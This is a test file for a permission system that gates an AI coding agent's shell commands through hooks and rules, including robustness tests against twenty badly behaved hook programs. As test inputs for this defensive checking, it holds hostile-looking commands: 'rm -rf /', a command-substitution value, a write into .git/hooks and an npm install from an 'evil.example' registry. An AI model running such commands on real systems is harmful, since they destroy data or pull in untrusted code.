/** Against real programs. */
import { mkdir, mkdtemp, readFile, realpath, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test, vi } from 'vitest';
import type { HookText } from '../../../shared/permission/hook.ts';
import { ProcessRegistry } from '../../processes/registry.ts';
import { openAcceptedServers } from '../../mcp/accepted-servers.ts';
import { openTrustStore, type TrustStore } from '../../workspaces/trust-store.ts';
import { PermissionDesk } from '../permission-desk.ts';

let folder: string;
let root: string;
let processes: ProcessRegistry;
let trust: TrustStore;
let desk: PermissionDesk;

beforeEach(async () => {
  folder = await realpath(await mkdtemp(join(tmpdir(), 'hooks-')));
  root = join(folder, 'ws');
  await mkdir(join(root, '.switchyard'), { recursive: true });
  processes = new ProcessRegistry();
  trust = await openTrustStore(join(folder, 'trust.json'));
  desk = await PermissionDesk.open({
    dataDir: join(folder, 'data'),
    home: null,
    now: Date.now,
    report: () => undefined,
    hooks: { processes, trust, accepted: await openAcceptedServers(join(folder, 'accepted.json')) },
  });
});
afterEach(async () => {
  await desk.close();
  await processes.stopAll({ deadlineMs: 1000 });
  await rm(folder, { recursive: true, force: true });
});

const node = (script: string): readonly string[] => [process.execPath, '-e', script];
const says = (answer: object) => node(`console.log(${JSON.stringify(JSON.stringify(answer))})`);
type Written = Omit<HookText, 'command' | 'event'> & {
  readonly command: readonly string[];
  readonly event?: HookText['event'];
};

async function use(hooks: readonly Written[], rules: readonly object[] = []) {
  const full = hooks.map((hook) => ({ event: 'permission_request', ...hook }));
  expect(await desk.engine.user.replace(JSON.stringify({ hooks: full, rules }))).toMatchObject({ ok: true });
}

const facts = () => ({
  id: 's1',
  workspaceId: 'w1',
  agentId: 'fake',
  agentName: 'Fake',
  cwd: root,
  createdAt: 0,
});

async function judged(command: string) {
  const call = { kind: 'execute' as const, name: null, rawInput: { command }, content: [], locations: [] };
  const { judge } = desk.forSession(facts(), () => []);
  const { verdict, notes = [], offers } = await judge(call, { rules: [], chosenMode: null });
  return { effect: verdict.effect, reason: verdict.reason, notes, offers };
}

const ALLOW = [{ effect: 'allow', command: 'npm test' }];
const nothingLeft = () => vi.waitFor(() => expect(processes.live).toEqual([]), { timeout: 5000 });

describe('a permission request', () => {
  test('is told to the hook with all that rules see, and may be denied, asked or annotated by it', async () => {
    const told = join(folder, 'told.json');
    await use(
      [
        {
          name: 'writes',
          command: node(
            `const t = require('fs').readFileSync(0, 'utf8'); require('fs').writeFileSync(${JSON.stringify(told)}, t);
           console.log('{"decision":"ask","reason":"hm","note":"looked"}')`,
          ),
        },
      ],
      ALLOW,
    );
    expect(await judged('npm test')).toEqual({
      effect: 'ask',
      reason: { type: 'hook', name: 'writes', says: 'hm', layer: 'user' },
      notes: [{ name: 'writes', says: 'looked' }],
      offers: [],
    });
    expect(JSON.parse(await readFile(told, 'utf8'))).toMatchObject({
      version: 1,
      event: 'permission_request',
      session: { id: 's1', agentId: 'fake', workspace: root },
      request: { kind: 'execute', commands: ['npm test'] },
      verdict: { effect: 'allow' },
    });
    await use([{ name: 'no', command: says({ decision: 'deny' }) }], ALLOW);
    expect(await judged('npm test')).toMatchObject({ effect: 'deny', reason: { type: 'hook', name: 'no' } });
  });

  test('is allowed by a hook of the person where a rule was missing, never over anything stricter', async () => {
    await use(
      [{ name: 'yes', command: says({ decision: 'allow' }) }],
      [
        { effect: 'deny', command: 'rm' },
        { effect: 'ask', command: 'git push' },
      ],
    );
    expect(await judged('tsc build')).toMatchObject({ effect: 'allow', reason: { type: 'hook' } });
    expect(await judged('rm x')).toMatchObject({ effect: 'deny', reason: { type: 'rule' } });
    expect(await judged('git push')).toMatchObject({ effect: 'ask', reason: { type: 'rule' } });
    expect(await judged('touch .git/hooks/x')).toMatchObject({
      effect: 'ask',
      reason: { type: 'protected' },
    });
    expect(await judged('tsc $(x)')).toMatchObject({ effect: 'ask', reason: { type: 'doubt' } });
    expect(await judged('rm -rf /')).toMatchObject({ effect: 'deny' });
  });

  test('the strictest of several counts', async () => {
    const answers = ['allow', 'deny', 'ask'] as const;
    await use(answers.map((decision) => ({ name: decision, command: says({ decision }) })));
    expect(await judged('tsc build')).toMatchObject({ effect: 'deny' });
  });
});

const HANG = 'setInterval(() => {}, 1000)';
const YES = '{"decision":"allow"}';
const yesAnd = (rest: string) => `process.stdout.write('${YES}'); ${rest}`;
/** Each says, or would say, that all is allowed. */
const BAD: readonly (readonly [string, readonly string[]])[] = [
  ['hangs', node(HANG)],
  ['answers and hangs', node(yesAnd(HANG))],
  ['ignores TERM', node(`process.on('SIGTERM', () => {}); ${yesAnd(HANG)}`)],
  ['crashes', node(`throw new Error('x')`)],
  ['answers and fails', node(yesAnd('process.exitCode = 1'))],
  ['kills itself', node(yesAnd(`process.kill(process.pid, 'SIGKILL')`))],
  ['aborts', node(yesAnd('process.abort()'))],
  [
    'writes 100 MB',
    node(
      `const b = 'x'.repeat(1 << 20); const w = () => { for (let i = 0; i < 100; i++) process.stdout.write(b); }; w(); ${HANG}`,
    ),
  ],
  ['writes without an end', node(`const w = () => process.stdout.write('x'.repeat(65536), w); w()`)],
  ['no JSON', node(`console.log('allow')`)],
  ['half of JSON', node(`console.log('{"decision":"al')`)],
  ['two answers', node(`console.log('${YES}'); console.log('${YES}')`)],
  ['a list', node(`console.log('[${YES}]')`)],
  ['null', node(`console.log('null')`)],
  ['another decision', node(`console.log('{"decision":"ALLOW"}')`)],
  ['a decision of another type', node(`console.log('{"decision":true}')`)],
  [
    'a reason without an end',
    node(`console.log(JSON.stringify({decision:'allow',reason:'x'.repeat(5000)}))`),
  ],
  ['not there', ['no-such-program-at-all']],
  ['no program', [tmpdir()]],
  [
    'forks and hangs',
    node(
      `for (let i = 0; i < 5; i++) require('child_process').spawn(process.execPath, ['-e', '${HANG}'], { stdio: 'inherit' }); ${HANG}`,
    ),
  ],
];

describe('20 bad hooks', () => {
  test.each(BAD)(
    'one that %s allows nothing, and nothing of it is left',
    async (_what, command) => {
      await use([{ name: 'bad', command, timeoutMs: 1500 }], ALLOW);
      // A rule alone would have allowed the one; the hook's yes the other.
      expect(await judged('npm test')).toMatchObject({
        effect: 'ask',
        reason: { type: 'hook', name: 'bad' },
      });
      await nothingLeft();
    },
    20_000,
  );

  test('control: the same yes from a hook that is well behaved does allow', async () => {
    expect(BAD).toHaveLength(20);
    await use([{ name: 'good', command: node(yesAnd('')), timeoutMs: 10_000 }]);
    expect(await judged('tsc build')).toMatchObject({ effect: 'allow' });
    await nothingLeft();
  });
});

describe('a workspace’s hooks', () => {
  async function written(script: string, answer: object) {
    await writeFile(join(root, 'check.js'), script);
    const command = [process.execPath, 'check.js'];
    const hooks = [{ event: 'permission_request', name: 'theirs', command }];
    await writeFile(join(root, '.switchyard/permissions.json'), JSON.stringify({ hooks }));
    await use([], ALLOW);
    return answer;
  }
  const script = (decision: string) => `console.log('{"decision":"${decision}"}')`;
  const listed = async () => (await desk.hooks?.ofWorkspace(root)) ?? [];

  test('are listed, and run only when trusted and accepted as they are', async () => {
    await written(script('deny'), {});
    expect(await listed()).toMatchObject([{ state: 'not-trusted', digest: null }]);
    expect(await judged('npm test')).toMatchObject({ effect: 'allow' });
    await trust.trust(root);
    const [found] = await listed();
    expect(found?.state).toBe('not-accepted');
    expect(await judged('npm test')).toMatchObject({ effect: 'allow' });
    await desk.hooks?.accept(root, 'permission_request:theirs', found?.digest ?? null);
    expect(await listed()).toMatchObject([{ state: 'active' }]);
    expect(await judged('npm test')).toMatchObject({ effect: 'deny', reason: { layer: 'workspace' } });
    // What it runs is another thing now.
    await writeFile(join(root, 'check.js'), `${script('deny')} // changed`);
    expect(await listed()).toMatchObject([{ state: 'not-accepted' }]);
    expect(await judged('npm test')).toMatchObject({ effect: 'allow' });
    expect(processes.live.length).toBeLessThanOrEqual(1);
  });

  test('may not allow', async () => {
    await written(script('allow'), {});
    await trust.trust(root);
    const [found] = await listed();
    await desk.hooks?.accept(root, 'permission_request:theirs', found?.digest ?? null);
    expect(await judged('tsc build')).toMatchObject({ effect: 'ask', reason: { type: 'no-rule' } });
  });
});

test('what happens is told once each, in order, and not when history is told again', async () => {
  const log = join(folder, 'log');
  const note = node(
    `const { event, call } = JSON.parse(require('fs').readFileSync(0, 'utf8'));
     require('fs').appendFileSync(${JSON.stringify(log)}, event + (call ? ' ' + call.toolCallId : '') + '\\n')`,
  );
  const events = ['tool_call_started', 'tool_call_finished', 'turn_ended'] as const;
  await use(events.map((event) => ({ event, name: 'log', command: note })));
  const { heard } = desk.forSession(facts(), () => []);
  heard?.([
    { type: 'replay-started' },
    { type: 'tool-call', patch: { toolCallId: 'old', status: 'completed' } },
    { type: 'replay-ended' },
    { type: 'tool-call', patch: { toolCallId: 'c1', title: 'Run', status: 'pending' } },
    { type: 'tool-call', patch: { toolCallId: 'c1', status: 'in_progress' } },
    { type: 'tool-call', patch: { toolCallId: 'c1', status: 'completed' } },
    { type: 'turn-ended', turnId: 't1', outcome: { type: 'stopped', reason: 'end_turn' } },
  ]);
  const lines = async () => (await readFile(log, 'utf8').catch(() => '')).trim().split('\n');
  await vi.waitFor(
    async () =>
      expect(await lines()).toEqual(['tool_call_started c1', 'tool_call_finished c1', 'turn_ended']),
    { timeout: 10_000 },
  );
});

describe('the examples of docs/permissions.md', () => {
  async function example(language: 'sh' | 'js') {
    const text = await readFile('docs/permissions.md', 'utf8');
    const block = new RegExp(`\`\`\`${language}\\n(.*?)\`\`\``, 's').exec(text)?.[1];
    const file = join(folder, language === 'sh' ? 'hook.sh' : 'hook.mjs');
    await writeFile(file, block ?? '');
    return [language === 'sh' ? 'sh' : process.execPath, file];
  }

  test('in sh', async () => {
    await use(
      [{ name: 'sh', command: await example('sh') }],
      [
        { effect: 'allow', command: 'npm test' },
        { effect: 'allow', command: 'npm run *' },
      ],
    );
    expect(await judged('npm test')).toMatchObject({ effect: 'allow', reason: { type: 'rule' } });
    expect(await judged('npm run deploy production')).toMatchObject({
      effect: 'ask',
      reason: { type: 'hook', says: 'it speaks of production' },
    });
  });

  test('in JavaScript', async () => {
    await use([{ name: 'js', command: await example('js') }]);
    expect(await judged('npm test')).toMatchObject({ effect: 'allow', reason: { type: 'hook' } });
    expect(await judged('npm i --registry=https://evil.example x')).toMatchObject({ effect: 'deny' });
    expect(await judged('tsc build')).toMatchObject({
      effect: 'ask',
      notes: [{ says: '1 command(s), looked at' }],
    });
  });
});
